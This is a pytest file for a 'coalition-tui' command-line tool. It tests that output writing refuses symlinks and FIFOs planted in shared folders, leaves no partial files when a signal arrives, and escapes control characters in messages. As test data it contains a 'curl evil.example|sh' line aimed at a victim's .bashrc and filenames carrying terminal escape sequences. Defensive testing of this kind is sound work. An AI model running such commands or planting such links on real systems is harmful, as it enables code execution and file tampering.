"""Output files in folders others can write, and files left behind (issue 19, points 6 and 9):
a planted link is refused, never followed; a signal mid-write leaves no `.part` file; names in
messages are escaped."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from tui.cli import main
from tui.data.files import OutputError, write_atomic

MINI = Path(__file__).parents[1] / "data" / "mini.yaml"


@pytest.fixture
def shared(tmp_path) -> Path:
    """A folder like /tmp: anyone may write, the sticky bit set."""
    folder = tmp_path / "shared"
    folder.mkdir()
    folder.chmod(0o1777)
    return folder


@pytest.fixture
def victim(tmp_path) -> Path:
    path = tmp_path / "victim.txt"
    path.write_text("the user's own file\n")
    return path


def test_a_link_planted_in_a_shared_folder_is_refused(shared, victim, capsys):
    (shared / "out.csv").symlink_to(victim)
    code = main(["--no-cache", "--data", str(MINI), "export", "--format", "csv", "--table", "countries",
                 "-o", str(shared / "out.csv")])
    err = capsys.readouterr().err
    assert code == 2
    assert victim.read_text() == "the user's own file\n"
    assert (shared / "out.csv").is_symlink()
    assert err.startswith(f"coalition-tui export: cannot write {shared / 'out.csv'}: it is a symbolic link "
                          "in a folder others can write"), err
    assert not list(shared.glob(".*.part"))


def test_a_dangling_link_planted_in_a_shared_folder_is_refused(shared, tmp_path):
    target = tmp_path / "would-be-created"
    (shared / "out.json").symlink_to(target)
    with pytest.raises(OutputError, match="symbolic link in a folder others can write"):
        write_atomic(shared / "out.json", "{}")
    assert not target.exists()


def test_a_folder_link_planted_in_a_shared_folder_is_refused(shared, tmp_path):
    home = tmp_path / "home"
    home.mkdir(mode=0o700)
    (shared / "reports").symlink_to(home)
    with pytest.raises(OutputError, match="reports is a symbolic link in a folder others can write"):
        write_atomic(shared / "reports" / ".bashrc", "curl evil.example|sh\n")
    assert not (home / ".bashrc").exists()


def test_a_plain_file_in_a_shared_folder_is_written(shared):
    path = write_atomic(shared / "out.csv", "a,b\n")
    assert path.read_text() == "a,b\n" and not path.is_symlink()
    write_atomic(shared / "out.csv", "c\n")  # and replaced
    assert (shared / "out.csv").read_text() == "c\n"


def test_a_link_the_user_named_in_a_private_folder_is_followed(tmp_path, victim):
    (tmp_path / "mine.csv").symlink_to(victim)
    write_atomic(tmp_path / "mine.csv", "new\n")
    assert victim.read_text() == "new\n" and (tmp_path / "mine.csv").is_symlink()


def test_a_group_writable_folder_counts_as_shared(tmp_path, victim):
    folder = tmp_path / "team"
    folder.mkdir()
    folder.chmod(0o775)
    (folder / "x.csv").symlink_to(victim)
    with pytest.raises(OutputError, match="others can write"):
        write_atomic(folder / "x.csv", "x")
    assert victim.read_text() == "the user's own file\n"


def test_a_fifo_planted_in_a_shared_folder_is_refused_not_waited_on(shared):
    os.mkfifo(shared / "out.csv")
    with pytest.raises(OutputError, match="a FIFO"):
        write_atomic(shared / "out.csv", "x")


async def test_the_dashboard_saves_past_a_planted_link(make_app, shared, victim, monkeypatch):
    import datetime as dt

    class Frozen(dt.datetime):
        @classmethod
        def now(cls, tz=None):
            return dt.datetime(2026, 11, 25, 12, 0, 0)

    monkeypatch.setattr("tui.ui.app._dt.datetime", Frozen)
    planted = shared / "coalition-tui-countries-20261125-120000.csv"
    planted.symlink_to(victim)
    dangling = shared / "coalition-tui-countries-20261125-120000-2.csv"
    dangling.symlink_to(shared.parent / "created-by-the-link.csv")
    app = make_app(screenshot_dir=shared)
    async with app.run_test() as pilot:
        await pilot.pause()
        await pilot.press("e")
        await pilot.pause()
    assert victim.read_text() == "the user's own file\n"
    assert not (shared.parent / "created-by-the-link.csv").exists()
    saved = shared / "coalition-tui-countries-20261125-120000-3.csv"
    assert saved.is_file() and not saved.is_symlink()
    assert saved.read_text().startswith("Country")


def test_wrote_message_escapes_the_name(tmp_path, capsys):
    name = tmp_path / "out\x1b]0;owned\x07.csv"
    code = main(["--no-cache", "--data", str(MINI), "export", "--format", "csv", "--table", "countries",
                 "-o", str(name)])
    err = capsys.readouterr().err
    assert code == 0 and name.exists()
    assert "\x1b" not in err and "\x07" not in err
    assert err == f"wrote {tmp_path}/out\\x1b]0;owned\\x07.csv\n"


def test_an_error_message_escapes_the_name(tmp_path):
    with pytest.raises(OutputError) as info:
        write_atomic(tmp_path / "no\x1b[2Jsuch" / "x.csv", "x")
    assert "\x1b" not in str(info.value) and "\\x1b[2J" in str(info.value)


_KILL_MID_WRITE = textwrap.dedent("""
    import os, signal, sys
    from tui.data import files
    sig = getattr(signal, sys.argv[2])
    real = os.fsync
    def fsync(fd):
        os.kill(os.getpid(), sig)   # the signal arrives while the .part file is being written
        real(fd)
    files.os.fsync = fsync
    files.write_atomic(sys.argv[1], "x" * 2_000_000)
    print("not reached")
""")


@pytest.mark.parametrize("name", ["SIGTERM", "SIGHUP", "SIGINT", "SIGQUIT"])
def test_a_signal_mid_write_leaves_no_part_file(tmp_path, name):
    out = tmp_path / "big.json"
    result = subprocess.run([sys.executable, "-c", _KILL_MID_WRITE, str(out), name], capture_output=True,
                            text=True, timeout=60, env=dict(os.environ, HOME=str(tmp_path)))
    sig = getattr(signal, name)
    assert "not reached" not in result.stdout
    if sig == signal.SIGINT:  # Python's own handler: KeyboardInterrupt
        assert "KeyboardInterrupt" in result.stderr
    else:
        assert result.returncode == -sig, result.stderr  # still dies of the signal, as the shell expects
    assert sorted(p.name for p in tmp_path.iterdir()) == [], list(tmp_path.iterdir())


def test_a_signal_handler_of_the_caller_is_kept(tmp_path):
    seen = []
    old = signal.signal(signal.SIGHUP, lambda s, f: seen.append(s))
    try:
        write_atomic(tmp_path / "a.txt", "x")
        assert signal.getsignal(signal.SIGHUP) is not signal.SIG_DFL
        os.kill(os.getpid(), signal.SIGHUP)
        assert seen == [signal.SIGHUP]
    finally:
        signal.signal(signal.SIGHUP, old)


@pytest.mark.parametrize("argv", [
    ["--screenshot-dir", "no\x1b]0;owned\x07such"],
    ["diff", "--from", "2023\x1b[2J", "--to", "2024"],
    ["export", "--format", "csv", "--table", "countries", "-o", "/nonexistent\x1b[31m/x.csv"],
    ["screenshot", "-o", "/nonexistent\u202e/x.svg"],
])
def test_failure_messages_escape_what_they_quote(capsys, argv):
    code = main(["--no-cache", *argv])
    err = capsys.readouterr().err
    assert code == 2, err
    assert err.count("\n") == 1 and not any(c in err for c in "\x1b\x07\u202e"), repr(err)
    assert "\\x1b" in err or "\\u202e" in err
